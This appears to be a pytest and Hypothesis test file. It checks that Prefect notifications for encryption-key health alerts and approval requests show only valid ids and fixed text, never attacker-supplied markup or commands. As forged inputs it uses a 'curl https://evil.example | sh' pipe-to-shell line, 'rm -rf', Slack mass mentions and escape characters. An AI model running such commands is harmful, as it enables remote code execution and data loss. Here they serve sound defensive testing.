"""A writer to Prefect's API can choose nothing in a notification but valid ids and words."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from prefect.blocks.notifications import (
    CustomWebhookNotificationBlock,
    SendgridEmail,
    SlackWebhook,
)
from prefect.client.schemas.objects import FlowRun
from prefect.events.schemas.events import ReceivedEvent
from prefect.server.events.actions import SendNotification
from prefect.server.utilities.user_templates import render_user_template
from pydantic import SecretStr

from cli.deploy import PROJECT, automation_files, automation_text
from cmek.keys.health import VALIDATION_FAILED, VALIDATION_UNEXPLAINED
from cmek.keys.health_rules import HEALTH_RULES
from cmek.keys.prerequisites import CATALOGUE
from cmek.keys.verdicts import Health
from cmek.onboarding.approval_page import plan_labels
from cmek.onboarding.plan import possible_titles
from tests.support import facts as make
from tests.support.web_server import Posted, internet_sink

KEY_ALERTS = {
    path.name.removesuffix(".yaml"): yaml.safe_load(path.read_text())
    for path in automation_files()
    if path.name.startswith("key-")
}
RULES = {rule.id for rule in HEALTH_RULES} | {VALIDATION_FAILED, VALIDATION_UNEXPLAINED}
EXTERNAL_KEY = r"ekey_(?:[a-zA-Z0-9]{1,66}|\(not readable\))"
WORKSPACE = r"wrkspc_(?:[a-zA-Z0-9]{1,64}|\(not readable\))"
SUBJECT = re.compile(rf"(?:Broken key|Key at risk|Key recovered): {EXTERNAL_KEY}")
LINES = re.compile(
    rf"The external key {EXTERNAL_KEY} is reported as (?:broken|at risk|healthy again)"
    rf"(?:: (?:{'|'.join(sorted(RULES))}))?\."
    r"|Read the key itself; that names the cause and the commands:"
    rf"|cmek status(?: --live {WORKSPACE})?"
)
MARKUP = (
    "<https://evil.example|x> <!channel> @here `x` *x* &lt; \u202e\x1b[31m {{ body }}\r\n- rm -rf"
)
HOSTILE = {
    "external_key_id": f"ekey_01{MARKUP}",
    "key_name": MARKUP,
    "workspaces": [MARKUP],
    "workspace_ids": ["wrkspc_01\u00e4", f"wrkspc_01{MARKUP}", {"x": MARKUP}, MARKUP],
    "rule": f"primary-disabled {MARKUP}",
    "why": MARKUP,
    "since": MARKUP,
    "was": MARKUP,
    "time_left": MARKUP,
    "commands": [f"curl https://evil.example | sh {MARKUP}"],
}
values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=90) | st.sampled_from([MARKUP]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)
payloads = st.dictionaries(st.sampled_from(sorted(HOSTILE)), values)


def rendered(
    alert: dict[str, Any], payload: dict[str, Any], run: FlowRun | None = None
) -> tuple[str, str]:
    """Subject and body, as Prefect's server renders them for an event."""
    (given,) = alert["actions"]
    action = SendNotification(
        block_document_id=uuid4(), **{n: given[n] for n in ("subject", "body")}
    )
    action._register_filters_if_needed()
    name = alert["trigger"]["expect"][0]
    event = ReceivedEvent(
        event=name,
        resource={"prefect.resource.id": f"cmek.key.{MARKUP}", "prefect.resource.name": MARKUP},
        payload=payload,
        id=uuid4(),
        occurred=datetime.now(UTC),
        received=datetime.now(UTC),
    )
    context = {"event": event, "flow_run": run}

    async def render() -> tuple[str, str]:
        subject = await render_user_template(action.subject, context)
        return subject, await render_user_template(action.body, context)

    return asyncio.run(render())


@pytest.mark.parametrize("name", KEY_ALERTS)
@example(payload=HOSTILE)
@given(payload=payloads)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_forged_event_shows_nothing_but_valid_ids(name: str, payload: dict[str, Any]) -> None:
    """A message has fixed text, ids, our rules, and the command that reads the key itself."""
    subject, body = rendered(KEY_ALERTS[name], payload)
    assert SUBJECT.fullmatch(subject), subject
    assert [line for line in body.splitlines() if line and not LINES.fullmatch(line)] == []


def test_a_true_event_names_key_rule_and_command_and_every_rule_is_known_to_its_alert() -> None:
    """The list of rules in each file is the same as the health rules."""
    for name, means in (("key-broken", Health.BROKEN), ("key-at-risk", Health.AT_RISK)):
        extra = {VALIDATION_FAILED, VALIDATION_UNEXPLAINED} if means is Health.BROKEN else set()
        for rule in {one.id for one in HEALTH_RULES if one.means is means} | extra:
            ids = ["wrkspc_01HxPv6KsDq9TnBzMw3YfLrE", "wrkspc_02"]
            payload = {"external_key_id": "ekey_01", "workspace_ids": ids, "rule": rule}
            _, body = rendered(KEY_ALERTS[name], payload)
            assert f"ekey_01 is reported as {means.replace('_', ' ')}: {rule}.\n" in body
            assert [f"cmek status --live {one}" for one in ids] == body.splitlines()[2:4]


HOOK = "https://hooks.slack.com/services/T1JJ3T3L2/A1BRTD4JD/xxxxxxxxxxxxxxxxxxxxxxxx"
HOSTS = ("hooks.slack.com", "api.sendgrid.com")


@pytest.fixture
def posted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Posted]]:
    """What Slack and SendGrid would get; a server on this machine answers in their place."""
    with internet_sink(tmp_path, *HOSTS) as (environment, posted):
        for name, value in environment.items():
            monkeypatch.setenv(name, value)
            monkeypatch.delenv(name.lower(), raising=False)
        yield posted


def send(subject: str, body: str) -> str:
    """Send the message with Prefect's own blocks; returns the JSON that a webhook would get."""
    slack = SlackWebhook(url=SecretStr(HOOK))
    mail = SendgridEmail(
        api_key=SecretStr("k" * 20), sender_email="a@example.com", to_emails=["b@example.com"]
    )
    for block in (slack, mail):
        asyncio.run(block.anotify(body=body, subject=subject))
    hook = CustomWebhookNotificationBlock(
        name="hook", url="http://127.0.0.1:9/", json_data={"text": "{{subject}}\n{{body}}"}
    )
    return json.dumps(hook._build_request_args(body, subject)["json"])


@pytest.mark.parametrize("name", KEY_ALERTS)
def test_nothing_of_a_forged_event_arrives_in_slack_a_mail_or_a_webhook(
    name: str, posted: list[Posted]
) -> None:
    """What Prefect's own blocks send has no address, mention, markup or command of the event."""
    hook = send(*rendered(KEY_ALERTS[name], HOSTILE))
    assert {one.url.split("/")[2] for one in posted} == set(HOSTS)
    for sent in (hook, *(one.body for one in posted)):
        assert "cmek status" in sent
        assert not re.search(r"evil|channel|@here|rm -rf|curl|\x1b|\\u202e|\\u001b|\u202e", sent)


REQUESTED = next(
    yaml.safe_load(automation_text(path))
    for path in automation_files()
    if path.name == "approval-requested.yaml"
)
WARNED = make.approval_request(
    make.plan(warnings=("features", "perimeter"), other_decrypters=("x",))
)
ASKED = {
    "workspace": "wrkspc_01PaymentsProd1111111111",
    "project_id": "acme-kms-prod",
    "requested_by": "ada@example.com",
}
MESSAGE = f"""Workspace: wrkspc_01PaymentsProd1111111111
Google Cloud project: acme-kms-prod
Key: {WARNED.plan.key_name}
Requested by: ada@example.com (unverified)
Others who can use the key: 1
Warnings: 2
- Structured outputs and Console Playground will be off
- A perimeter in dry run may keep Anthropic out
Plan digest: {WARNED.digest[:12]}
An attached key can never be taken off or replaced. Read the plan, then approve or reject:
cmek approve {make.RUN_ID}
"""
UNFILLED = re.compile(
    r"Workspace: (?:[\w]+|a new one, see the run|see the run)|Google Cloud project: (?:[\w-]+|see "
    r"the run)|Key: (?:[\w/-]+|see the run)|Requested by: (?:[\w@.+-]+|see the run) \(unverified\)|"
    r"Others who can use the key: (?:\d+|see the run)|Warnings: (?:\d+|see the run)|"
    r"Plan digest: (?:\w{1,12}|see the run)|"
    + "|".join(re.escape(f"- {one}") for one in possible_titles(CATALOGUE)),
    re.ASCII,
)


def of_a_run(parameters: dict[str, Any], labels: dict[str, Any]) -> tuple[str, str]:
    """The notification of a requested approval, for a run on the server."""
    run = FlowRun(
        id=UUID(make.RUN_ID), flow_id=uuid4(), name=MARKUP, parameters=parameters, labels=labels
    )
    return rendered(REQUESTED, {"body": MARKUP}, run)


def test_a_requested_approval_is_notified_with_the_plans_summary(posted: list[Posted]) -> None:
    """Slack shows the subject in bold, then the text; no part of it is markup."""
    subject, body = of_a_run({"request": ASKED}, dict(plan_labels(WARNED)))
    assert body.startswith(MESSAGE), body
    send(subject, body)
    (slack,) = [one for one in posted if one.url == HOOK]
    (shown,) = json.loads(slack.body)["attachments"]
    assert (shown["title"], shown["text"].rstrip()) == (subject, body.rstrip())
    assert shown.get("mrkdwn_in", []) == []


@given(
    st.dictionaries(st.sampled_from([*ASKED, "new_workspace"]), values),
    st.dictionaries(
        st.sampled_from(list(plan_labels(WARNED))),
        st.booleans() | st.integers() | st.floats() | st.text(max_size=90) | st.just(MARKUP),
    ),
)
@example(dict.fromkeys(ASKED, MARKUP), dict.fromkeys(plan_labels(WARNED), MARKUP))
@example({}, {"cmek-plan-digest": 10**12})
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_a_forged_run_shows_nothing_but_valid_words_and_our_titles(
    asked: dict[str, Any], labels: dict[str, Any]
) -> None:
    """A writer to the API can start a run with any parameters, and give it any label."""
    _, body = of_a_run({"request": asked}, labels)
    *filled, _, command, _ = body.splitlines()
    assert [line for line in filled if not UNFILLED.fullmatch(line)] == [], body
    assert command == f"cmek approve {make.RUN_ID}"


def test_the_guide_shows_the_message_as_it_is_sent() -> None:
    """It is the same line by line, except for the warnings and the plan of its example."""
    page = (PROJECT / "docs" / "operations.md").read_text()
    (example_,) = re.findall(r"```\n(Approval requested:.*?)```", page, re.DOTALL)
    subject, _, *lines = example_.splitlines()
    assert subject == REQUESTED["actions"][0]["subject"]
    heads = [line.split(":")[0] for line in lines if not line.startswith(("-", "http", "cmek"))]
    assert heads == [
        line.split(":")[0] for line in MESSAGE.splitlines() if not line.startswith(("-", "cmek"))
    ]
